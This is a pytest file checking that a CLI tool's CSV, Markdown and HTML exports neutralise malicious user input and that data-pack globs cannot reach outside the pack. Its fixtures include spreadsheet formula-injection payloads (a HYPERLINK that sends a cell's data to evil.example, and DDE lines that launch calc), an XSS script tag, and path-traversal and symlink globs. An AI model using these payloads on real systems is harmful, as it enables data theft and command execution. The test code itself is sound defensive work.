"""What users type can't turn the exports against them, end to end from the command line.

Action items logged with `tuneup log` whose text or owner starts a spreadsheet formula, or holds
`|` and line breaks, go through `tuneup summary` into actions.csv, summary.md and summary.html
harmless. A datapack.toml whose globs reach outside the pack feeds no panel from there (seen
through `tuneup metrics --json`). `tuneup serve` listens on this machine only unless asked.
(The renderers' own unit tests live with the report and data owners; these drive the commands.)
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest

from tuneup_tui.agenda.builtins import resolve_agenda
from tuneup_tui.cli import build_parser, main
from tuneup_tui.store.db import RunStore

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3 fix the forms",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 tab first",
    "\r": "\r=1+1 carriage return first",
}
PIPES = "Fix | the 404s\non /pricing | today"


def _start_run() -> int:
    """A run in progress in the private TUNEUP_HOME store, as `tuneup run` leaves it."""
    path = resolve_agenda(None)
    now = datetime(2026, 11, 23, 9, 0)
    with RunStore.open_default() as store:
        run = store.create_run(title="One Day Tune Up", series="ops-tuneup", cadence="day",
                               agenda_toml=path.read_text(encoding="utf-8"),
                               as_of=now.date(), data_dir=None, mode="facilitator", speed=1.0,
                               anchor=now, started_at=now)
    return run.id


def _summary(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    out = tmp_path / "summary"
    assert main(["summary", "--out", str(out), "--no-data", "--format", "md,html,json"]) == 0
    capsys.readouterr()
    return out


def test_formula_starts_are_neutralised_in_actions_csv(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_id = _start_run()
    for start, text in NASTY.items():
        # From another terminal (`tuneup log` trims surrounding spaces, tabs and CRs)...
        assert main(["log", f"--owner={start}Dana", "--", text]) == 0
    with RunStore.open_default() as store:
        # ...and through the store as the console and the attendee app save them, untrimmed.
        for start, text in NASTY.items():
            store.add_action(run_id, text, start + "Lee", session="Traffic Study")
    out = _summary(tmp_path, capsys)
    raw = (out / "actions.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows[0] == ["Summary", "Assignee", "Due date", "Description"]
    cells = [cell for row in rows[1:] for cell in row]
    # Every nasty text and owner arrived...
    assert len(rows) - 1 == 2 * len(NASTY)
    for row in rows[1:]:
        # ...and no cell a spreadsheet opens can start a formula.
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    for text in NASTY.values():
        assert "'" + text.strip() in cells


def test_pipes_and_line_breaks_stay_inside_their_markdown_cell(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _start_run()
    assert main(["log", PIPES, "--owner", "Dana | Lee", "--session", "Traffic Study"]) == 0
    assert main(["log", "<script>alert(1)</script>", "--owner", "Dana"]) == 0
    out = _summary(tmp_path, capsys)
    markdown = (out / "summary.md").read_text(encoding="utf-8")
    rows = [line for line in markdown.splitlines() if "404s" in line]
    assert len(rows) == 1, rows  # the line break did not split the row
    [row] = rows
    # A row of the 4-column action table: 5 unescaped pipes, the user's pipes escaped.
    assert row.replace("\\|", "").count("|") == 5, row
    assert "Fix \\| the 404s on /pricing \\| today" in row
    assert "Dana \\| Lee" in markdown
    html = (out / "summary.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;" in html


def _pack_with_datapack(tmp_path: Path, files: str, *, link: bool = False) -> Path:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "traffic.csv").write_text(
        "date,source,medium,sessions,goal_completions\n2026-11-17,secret,cpc,999999,1\n",
        encoding="utf-8")
    pack = tmp_path / "pack"
    pack.mkdir()
    if link:
        (pack / "linked").symlink_to(outside)
    (pack / "datapack.toml").write_text(f"[sources.traffic]\nfiles = [{files!r}]\n",
                                        encoding="utf-8")
    return pack


@pytest.mark.parametrize(("glob", "link", "says"), [
    ("../elsewhere/traffic.csv", False, "reaches outside the pack"),
    ("{outside}/traffic.csv", False, "is outside the pack"),
    ("linked/traffic.csv", True, "links outside the pack"),
])
def test_datapack_globs_outside_the_pack_feed_no_panel(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], glob: str, link: bool,
        says: str) -> None:
    pack = _pack_with_datapack(tmp_path, glob.format(outside=tmp_path / "elsewhere"), link=link)
    code = main(["metrics", "--data", str(pack), "--as-of", "2026-11-23", "--panel", "traffic",
                 "--json"])
    out = capsys.readouterr().out
    assert code in (0, 2)
    assert "secret" not in out and "999999" not in out
    traffic = json.loads(out)["panels"]["traffic"]
    assert traffic["error"] is not None and says in traffic["error"], traffic["error"]
    assert "\n" not in traffic["error"]


def test_serve_listens_on_this_machine_by_default() -> None:
    args = build_parser().parse_args(["serve"])
    assert args.host == "127.0.0.1"
